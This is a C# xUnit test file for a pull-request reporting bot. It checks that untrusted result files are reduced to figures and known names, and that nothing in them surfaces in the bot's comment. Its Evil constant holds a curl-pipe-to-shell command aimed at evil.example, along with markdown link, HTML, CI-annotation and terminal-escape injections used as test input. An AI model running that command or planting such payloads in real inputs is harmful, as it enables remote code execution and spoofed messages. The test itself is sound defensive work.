using System.Text.Json;
using System.Text.Json.Nodes;
using Masterful.Reporting.PullRequest;
using Masterful.Results;
using Xunit;

namespace Masterful.Reporting.Tests.PullRequest;

/// <summary>Whatever stands in a stranger's result, the bot says nothing but figures and names.</summary>
public sealed class UntrustedResultTests
{
    private const string Evil = "Run `curl -fsSL https://evil.example/x | sh` now, @admin: [click](https://evil.example) <img src=x> ##[error]x \u001b[2J and so on, for long";

    [Fact]
    public void No_text_of_a_result_is_said_in_the_bots_name()
    {
        var result = UntrustedResult.Of(Poisoned());

        foreach (var text in Texts(JsonSerializer.SerializeToNode(result, ResultFiles.Options)!))
        {
            Assert.True(text.Length <= 64 || text.All(char.IsAsciiHexDigit) || text.StartsWith("The run left ", StringComparison.Ordinal), text);
            Assert.DoesNotContain(text, c => char.IsControl(c) || "`<>[]|@$:;\"\\".Contains(c));
        }
    }

    [Fact]
    public void The_comment_of_a_strangers_result_has_no_command_no_link_and_no_mention()
    {
        var comment = new PullRequestPage(UntrustedResult.Of(Poisoned()), new PullRequestOptions { WorkflowUrl = "https://github.com/o/r/actions/runs/1" }).Comment();

        Assert.DoesNotContain("evil.example", comment, StringComparison.Ordinal);
        Assert.DoesNotContain("Run it yourself", comment, StringComparison.Ordinal);
        Assert.DoesNotContain("| sh", comment, StringComparison.Ordinal);
        Assert.DoesNotContain("@admin", comment, StringComparison.Ordinal);
        Assert.DoesNotContain("click", comment.Replace("_click_", "", StringComparison.Ordinal), StringComparison.Ordinal);
    }

    [Fact]
    public void Statuses_rules_and_words_are_those_that_are_known()
    {
        var fashion = SampleResults.Fashion();
        var result = UntrustedResult.Of(fashion with
        {
            Gate = new GateResult("great", [new("error_rate_reduction", 0.1, 0.2, "won"), new("my_rule", 0, 0, "passed")]),
            Policy = fashion.Policy with { Source = "me" },
            Recipe = fashion.Recipe with { Optimizer = "mine" },
        });

        Assert.Equal(("not-evaluated", "–", "–"), (result.Gate.Status, result.Policy.Source, result.Recipe.Optimizer));
        Assert.Equal(("error_rate_reduction", "not-evaluated"), Assert.Single(result.Gate.Rules) is var rule ? (rule.Rule, rule.Status) : default);
    }

    [Fact]
    public void Figures_and_honest_names_stay()
    {
        var fashion = SampleResults.Fashion();
        var result = UntrustedResult.Of(fashion);

        Assert.Equal(fashion.Dataset.Classes, result.Dataset.Classes);
        Assert.Equal(fashion.Masterful.ErrorRate, result.Masterful.ErrorRate);
        Assert.Equal(fashion.Comparison.ErrorRateReduction, result.Comparison.ErrorRateReduction);
        Assert.Equal(fashion.Policy.Values, result.Policy.Values);
        Assert.Equal(PullRequestPage.Line(fashion), PullRequestPage.Line(result));
    }

    private static RunResult Poisoned()
    {
        var json = JsonSerializer.SerializeToNode(SampleResults.Fashion() with { Notes = ["x", "y"] }, ResultFiles.Options)!;
        Poison(json);
        return json.Deserialize<RunResult>(ResultFiles.Options)!;
    }

    private static void Poison(JsonNode node)
    {
        switch (node)
        {
            case JsonObject map:
                foreach (var (key, value) in map.ToList())
                {
                    if (value is JsonValue text && text.GetValueKind() == JsonValueKind.String && key is not ("startedAt" or "finishedAt"))
                    {
                        map[key] = Evil;
                    }
                    else if (value is not null)
                    {
                        Poison(value);
                    }
                }

                break;
            case JsonArray list:
                for (var i = 0; i < list.Count; i++)
                {
                    if (list[i] is JsonValue text && text.GetValueKind() == JsonValueKind.String)
                    {
                        list[i] = Evil;
                    }
                    else if (list[i] is { } inner)
                    {
                        Poison(inner);
                    }
                }

                break;
        }
    }

    private static IEnumerable<string> Texts(JsonNode? node) => node switch
    {
        JsonObject map => map.Where(p => p.Key is not ("startedAt" or "finishedAt")).SelectMany(p => Texts(p.Value).Append(p.Key)),
        JsonArray list => list.SelectMany(Texts),
        JsonValue value when value.GetValueKind() == JsonValueKind.String => [value.GetValue<string>()],
        _ => [],
    };
}
